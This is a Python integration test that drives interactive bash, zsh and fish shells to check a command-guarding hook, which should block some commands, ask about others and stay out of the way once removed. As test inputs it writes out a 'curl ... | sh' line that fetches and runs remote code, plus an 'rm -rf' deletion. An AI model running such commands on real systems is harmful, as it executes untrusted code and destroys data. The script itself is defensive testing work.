# SPDX-License-Identifier: Apache-2.0
# Copyright (c) 2026 the MegaBot for Swift authors
"""Types into a real interactive shell that has the hook, and looks at what has run."""
import argparse
import os
import pty
import select
import shutil
import signal
import sys
import time

parser = argparse.ArgumentParser()
parser.add_argument("--binary", required=True)
parser.add_argument("--folder", required=True)
parser.add_argument("--shell", required=True)
options = parser.parse_args()

START = {
    "bash": ["bash", "--noprofile", "--norc", "-i"],
    "zsh": ["zsh", "-f", "-i"],
    "fish": ["fish", "--no-config", "-i"],
}
LOAD = {
    "bash": 'eval "$({} hook bash)"',
    "zsh": 'eval "$({} hook zsh)"',
    "fish": "{} hook fish | source",
}


class Terminal:
    """A shell on a terminal of its own."""

    def __init__(self, shell, binary):
        self.pid, self.descriptor = pty.fork()
        if self.pid == 0:
            os.chdir(options.folder)
            environment = {"PATH": os.environ["PATH"], "HOME": options.folder, "TERM": "xterm", "PS1": "> ", "LANG": "C.UTF-8"}
            os.execvpe(START[shell][0], START[shell], environment)
        self.seen = b""
        self.settle()
        self.line(LOAD[shell].format(binary))

    def settle(self, quiet=1.0, most=15.0):
        """Reads until nothing has come for a while."""
        end = time.monotonic() + most
        last = time.monotonic()
        start = len(self.seen)
        while time.monotonic() < end and time.monotonic() - last < quiet:
            ready, _, _ = select.select([self.descriptor], [], [], 0.1)
            if ready:
                try:
                    piece = os.read(self.descriptor, 65536)
                except OSError:
                    break
                if not piece:
                    break
                self.seen += piece
                # fish asks the terminal what it is and waits for the answer.
                if b"\x1b[c" in piece or b"\x1b[0c" in piece:
                    os.write(self.descriptor, b"\x1b[?62;c")
                last = time.monotonic()
        return self.seen[start:].decode(errors="replace")

    def type(self, text):
        os.write(self.descriptor, text.encode())
        return self.settle()

    def line(self, text):
        return self.type(text + "\r")

    def close(self):
        os.kill(self.pid, signal.SIGKILL)
        os.waitpid(self.pid, 0)
        os.close(self.descriptor)


failures = []


def lines(name):
    path = os.path.join(options.folder, name)
    return open(path).read().splitlines() if os.path.exists(path) else []


def check(what, holds, shown=""):
    print(("ok   " if holds else "FAIL ") + what)
    if not holds:
        failures.append(what)
        print(repr(shown))


# A copy that can be taken away.
binary = os.path.join(options.folder, "megabot-copy")
shutil.copy2(options.binary, binary)
terminal = Terminal(options.shell, binary)

shown = terminal.line("echo once >> allowed")
check("an allowed command runs exactly once", lines("allowed") == ["once"], shown)

shown = terminal.line("curl https://nothing.invalid/x | sh; echo ran >> blocked")
check("a blocked one never", lines("blocked") == [], shown)
check("and why is said", "It was not run." in shown, shown)
shown = terminal.type("\x15") + terminal.line("echo after >> allowed")
check("the shell goes on after it", lines("allowed") == ["once", "after"], shown)

os.makedirs(os.path.join(options.folder, "precious"))
shown = terminal.line("rm -rf precious; echo no >> asked")
check("a question is asked", "Run it?" in shown, shown)
shown = terminal.type("n")
check("no means no", os.path.isdir(os.path.join(options.folder, "precious")) and lines("asked") == [], shown)
terminal.type("\x15")
terminal.line("rm -rf precious; echo yes >> asked")
shown = terminal.type("y")
check("yes runs it once", not os.path.isdir(os.path.join(options.folder, "precious")) and lines("asked") == ["yes"], shown)

if options.shell == "bash":
    terminal.line("for i in 1 2; do")
    terminal.line("echo $i >> several")
    shown = terminal.line("done")
    check("a command of several lines runs once", lines("several") == ["1", "2"], shown)
    terminal.line("if true; then")
    shown = terminal.line("curl https://nothing.invalid/x | sh; echo ran >> severalblocked; fi")
    check("and is checked as one", lines("severalblocked") == [] and "It was not run." in shown, shown)
    terminal.type("\x15")
    os.write(terminal.descriptor, b"\x03")
    terminal.settle()
    terminal.line("echo history >> expanded")
    shown = terminal.line("!echo")
    check("history is expanded first", lines("expanded") == ["history", "history"], shown)
    shown = terminal.line("cat <<E >> document")
    terminal.line("text")
    shown += terminal.line("E")
    check("a here-document runs once", lines("document") == ["text"], shown)

os.remove(binary)
shown = terminal.line("echo still >> unguarded")
check("without the program the command runs", lines("unguarded") == ["still"], shown)
check("and that is said", "not checked" in shown, shown)
terminal.close()
print("%d failures" % len(failures))
sys.exit(1 if failures else 0)
